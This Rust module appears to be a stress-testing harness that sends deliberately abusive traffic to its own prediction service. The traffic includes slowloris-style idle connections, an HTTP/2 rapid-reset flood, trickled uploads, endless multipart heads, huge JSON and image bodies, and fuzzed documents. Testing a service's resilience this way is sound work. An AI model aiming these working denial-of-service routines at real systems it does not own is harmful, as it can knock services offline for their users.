//! Clients that mean harm.

use std::io::{self, Write as _};
use std::net::{Shutdown, TcpStream};
use std::time::Duration;

use super::clients::{self, Patience, Tally};
use super::{Target, documents, http};

/// A kind of harm, and how many do it at the same time.
pub(super) struct Attacker {
    pub(super) name: &'static str,
    pub(super) connections: usize,
    pub(super) attack: fn(&Target, u64),
}

/// All kinds.
pub(super) const ALL: &[Attacker] = &[
    Attacker {
        name: "archives-without-patience",
        connections: 16,
        attack: archives,
    },
    Attacker {
        name: "idle-connections",
        connections: 300,
        attack: idle,
    },
    Attacker {
        name: "idle-http2-connections",
        connections: 100,
        attack: idle_http2,
    },
    Attacker {
        name: "http2-resets",
        connections: 2,
        attack: http2_resets,
    },
    Attacker {
        name: "slow-uploads",
        connections: 50,
        attack: slow_uploads,
    },
    Attacker {
        name: "endless-part-heads",
        connections: 8,
        attack: endless_heads,
    },
    Attacker {
        name: "endless-preambles",
        connections: 4,
        attack: endless_preambles,
    },
    Attacker {
        name: "json-of-spaces",
        connections: 4,
        attack: json_of_spaces,
    },
    Attacker {
        name: "json-of-escapes",
        connections: 2,
        attack: json_of_escapes,
    },
    Attacker {
        name: "largest-bodies",
        connections: 8,
        attack: largest_bodies,
    },
    Attacker {
        name: "largest-pages",
        connections: 2,
        attack: largest_pages,
    },
    Attacker {
        name: "damaged-documents",
        connections: 4,
        attack: damaged,
    },
    Attacker {
        name: "clients-that-go-away",
        connections: 4,
        attack: gone,
    },
    Attacker {
        name: "half-closed-clients",
        connections: 2,
        attack: half_closed,
    },
    Attacker {
        name: "answers-never-taken",
        connections: 8,
        attack: unread,
    },
];

/// Does something over a new connection again and again. What becomes of it is the attacker's trouble.
fn again(target: &Target, rest: Duration, mut attack: impl FnMut(&mut TcpStream) -> io::Result<()>) {
    while target.goes_on() {
        let attacked = http::connect(target.address).and_then(|mut stream| attack(&mut stream));
        target.rest(if attacked.is_ok() {
            rest
        } else {
            rest.max(Duration::from_millis(100))
        });
    }
}

fn archives(target: &Target, _: u64) {
    let archive = documents::pdf(100);
    clients::ask(
        target,
        &Tally::default(),
        "application/pdf",
        &archive,
        Patience::None,
    );
}

fn idle(target: &Target, number: u64) {
    again(target, Duration::ZERO, |stream| {
        // A third of them say nothing, others begin a head, or have had an answer.
        match number % 3 {
            0 => {}
            1 => stream.write_all(b"GET /livez HTTP/1.1\r\nx-slow: ")?,
            _ => stream.write_all(b"GET /livez HTTP/1.1\r\nhost: abuse\r\n\r\n")?,
        }
        wait_for_end(target, stream)
    });
}

/// The connection preface and empty settings.
const HTTP2: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

fn idle_http2(target: &Target, _: u64) {
    again(target, Duration::ZERO, |stream| {
        stream.write_all(HTTP2)?;
        wait_for_end(target, stream)
    });
}

fn http2_resets(target: &Target, _: u64) {
    // POST /predict by RFC 7541, without its body.
    let head = [
        &[0x83, 0x86, 0x04, 8][..],
        b"/predict",
        &[0x0f, 0x10, 9],
        b"image/png",
    ]
    .concat();
    let frame = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
        [
            &[0, 0, payload.len() as u8, kind, flags][..],
            &stream.to_be_bytes(),
            payload,
        ]
        .concat()
    };
    again(target, Duration::from_millis(50), |socket| {
        socket.write_all(HTTP2)?;
        for stream in (1..20_000).step_by(2) {
            socket.write_all(&frame(1, 4, stream, &head))?;
            socket.write_all(&frame(3, 0, stream, &8_u32.to_be_bytes()))?;
        }
        Ok(())
    });
}

fn slow_uploads(target: &Target, number: u64) {
    let types = ["image/png", "multipart/form-data; boundary=b", "application/json"];
    let content_type = types[number as usize % types.len()];
    let path = if content_type == "application/json" {
        "/predict/json"
    } else {
        "/predict"
    };
    again(target, Duration::ZERO, |stream| {
        stream.write_all(http::head(path, content_type, 50_000_000).as_bytes())?;
        while target.goes_on() {
            stream.write_all(b"a")?;
            target.rest(Duration::from_secs(1));
        }
        Ok(())
    });
}

fn endless_heads(target: &Target, _: u64) {
    endless(
        target,
        b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"",
    );
}

fn endless_preambles(target: &Target, _: u64) {
    endless(target, b"");
}

fn endless(target: &Target, start: &[u8]) {
    again(target, Duration::ZERO, |stream| {
        let head = http::head("/predict", "multipart/form-data; boundary=b", 50_000_000);
        stream.write_all(head.as_bytes())?;
        stream.write_all(start)?;
        for _ in 0..700 {
            stream.write_all(&[b'a'; 65_536])?;
        }
        wait_for_end(target, stream)
    });
}

fn json_of_spaces(target: &Target, _: u64) {
    json(
        target,
        &[br#"{"image": "","#, &b" ".repeat(66_000_000)[..]].concat(),
    );
}

fn json_of_escapes(target: &Target, _: u64) {
    json(
        target,
        &[br#"{"image": ""#, &br"\u0041".repeat(10_000_000)[..], br#""}"#].concat(),
    );
}

fn json(target: &Target, body: &[u8]) {
    again(target, Duration::from_millis(100), |stream| {
        http::post(stream, "/predict/json", "application/json", body)?;
        http::read(stream).map(drop)
    });
}

fn largest_bodies(target: &Target, _: u64) {
    let body = vec![b'x'; 52_000_000];
    again(target, Duration::from_millis(100), |stream| {
        http::post(stream, "/predict", "image/png", &body)?;
        http::read(stream).map(drop)
    });
}

fn largest_pages(target: &Target, number: u64) {
    let (width_px, height_px) = if number == 0 {
        (10_000, 9_900)
    } else {
        (60_000, 1_600)
    };
    let page = documents::white_bmp(width_px, height_px);
    again(target, Duration::from_millis(100), |stream| {
        http::post(stream, "/predict", "image/bmp", &page)?;
        http::read(stream).map(drop)
    });
}

fn damaged(target: &Target, number: u64) {
    let whole = [documents::pdf(3), documents::white_bmp(400, 500)];
    let mut seed = number << 32;
    again(target, Duration::from_millis(20), |stream| {
        seed += 1;
        let mut document = whole[seed as usize % whole.len()].clone();
        documents::damage(&mut document, seed);
        http::post(stream, "/predict", "application/pdf", &document)?;
        http::read(stream).map(drop)
    });
}

fn gone(target: &Target, number: u64) {
    let archive = documents::pdf(20);
    again(target, Duration::from_millis(50), |stream| {
        let whole = [
            http::head("/predict", "application/pdf", archive.len()).as_bytes(),
            &archive,
        ]
        .concat();
        let sent = if number.is_multiple_of(2) {
            whole.len()
        } else {
            whole.len() / 2
        };
        stream.write_all(&whole[..sent])?;
        target.rest(Duration::from_millis(30));
        Ok(())
    });
}

fn half_closed(target: &Target, _: u64) {
    let document = documents::pdf(1);
    again(target, Duration::from_millis(200), |stream| {
        http::post(stream, "/predict", "application/pdf", &document)?;
        stream.shutdown(Shutdown::Write)?;
        http::read(stream).map(drop)
    });
}

fn unread(target: &Target, _: u64) {
    let request = b"GET /openapi.json HTTP/1.1\r\nhost: abuse\r\n\r\n".repeat(500);
    again(target, Duration::ZERO, |stream| {
        stream.write_all(&request)?;
        target.rest(Duration::from_secs(60));
        Ok(())
    });
}

/// Holds a connection until the service ends it, or the abuse is over.
fn wait_for_end(target: &Target, stream: &mut TcpStream) -> io::Result<()> {
    use std::io::Read as _;

    stream.set_read_timeout(Some(Duration::from_millis(500)))?;
    while target.goes_on() {
        match stream.read(&mut [0; 4096]) {
            Ok(0) => break,
            Err(error) if error.kind() != io::ErrorKind::WouldBlock => return Err(error),
            _ => {}
        }
    }
    Ok(())
}
